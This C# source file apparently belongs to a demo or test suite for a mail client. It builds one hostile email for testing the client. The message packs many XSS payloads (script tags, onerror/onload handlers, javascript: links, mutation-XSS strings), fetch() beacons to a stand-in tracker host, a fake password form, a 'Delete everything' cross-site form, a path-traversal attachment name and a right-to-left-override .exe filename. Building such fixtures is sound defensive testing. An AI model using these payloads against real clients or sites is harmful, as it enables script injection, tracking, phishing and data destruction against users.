using System.Text;

namespace MiniDesk.Demo;

/// <summary>A mail that tries what mails try: to run, to load, to be submitted, to look like the desk, to lie about file names and names.</summary>
internal static class HostileMail
{
    private const string Pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    /// <summary>Creates it.</summary>
    /// <param name="to">The mailbox.</param>
    /// <param name="collector">Where everything that is loaded would be counted.</param>
    public static byte[] Create(string to, string collector = "http://tracker.invalid") => Encoding.UTF8.GetBytes(
        $"""
        From: "<script>alert(1)</script> support@desk.example" <mallory@evil.example>
        To: {to}
        Subject: <img src="{collector}/subject" onerror="alert(1)"> You have won =?utf-8?q?=E2=80=AE?=
        Date: Mon, 01 Jun 2026 10:00:00 +0000
        Message-ID: <"><script>alert(1)</script>@evil.example>
        X-Mailer: <b>bold</b>
        MIME-Version: 1.0
        Content-Type: multipart/related; boundary="b"

        --b
        Content-Type: text/html; charset=utf-8

        <html><head>
        <meta http-equiv="refresh" content="0; url={collector}/refresh"><base href="{collector}/">
        <link rel="stylesheet" href="{collector}/style.css"><style>@import "{collector}/import"; body {"{"} background: url({collector}/css) {"}"}</style>
        <script src="{collector}/script.js"></script></head>
        <body background="{collector}/background" onload="fetch('{collector}/onload')">
        <h1>Congratulations</h1>
        <p style="position:fixed;top:0;left:0;width:100%;height:100%;background:url({collector}/fixed)">You have won. <a href="javascript:alert(1)">Collect</a>,
        <a href="{collector}/click">visit us</a>, or <a href="/mailboxes">look at your mailboxes</a>.</p>
        <img src="{collector}/pixel.png" width="1" height="1"><img srcset="{collector}/srcset 2x"><img src="//tracker.invalid/relative">
        <img src=x onerror="fetch('{collector}/onerror')"><img src="data:image/svg+xml,<svg onload='fetch(1)'/>">
        <picture><source srcset="{collector}/source"></picture><video src="{collector}/video" autoplay poster="{collector}/poster"></video>
        <audio src="{collector}/audio" autoplay></audio><iframe src="{collector}/frame"></iframe><object data="{collector}/object"></object>
        <embed src="{collector}/embed"><svg><image href="{collector}/svg"/><use href="{collector}/use#x"/></svg><math href="javascript:alert(1)">x</math>
        <form action="{collector}/form"><input name="password" type="password" autofocus onfocus="fetch('{collector}/focus')"><button>Sign in</button></form>
        <form action="/mailboxes" method="post"><button>Delete everything</button></form>
        <table background="{collector}/table"><tr><td>Prize</td><td background="{collector}/cell">1,000,000</td></tr></table>
        <p>Our logo: <img src="cid:logo@evil.example" alt="logo"></p>
        <noscript><p title="</noscript><img src=x onerror=fetch('{collector}/mutation')>">x</p></noscript>
        <svg></p><style><a id="</style><img src=1 onerror=fetch('{collector}/mxss')>">
        </body></html>
        --b
        Content-Type: image/png; name="logo.png"
        Content-ID: <logo@evil.example>
        Content-Disposition: inline; filename="logo.png"
        Content-Transfer-Encoding: base64

        {Pixel}
        --b
        Content-Type: text/html; name="../../../etc/passwd"
        Content-Disposition: attachment; filename="../../<script>alert(1)</script>.html"

        <script>fetch('{collector}/attachment')</script>
        --b
        Content-Type: image/svg+xml
        Content-ID: <svg@evil.example>
        Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEgpj.exe

        <svg xmlns="http://www.w3.org/2000/svg" onload="fetch('{collector}/svgfile')"/>
        --b--

        """.ReplaceLineEndings("\r\n"));
}
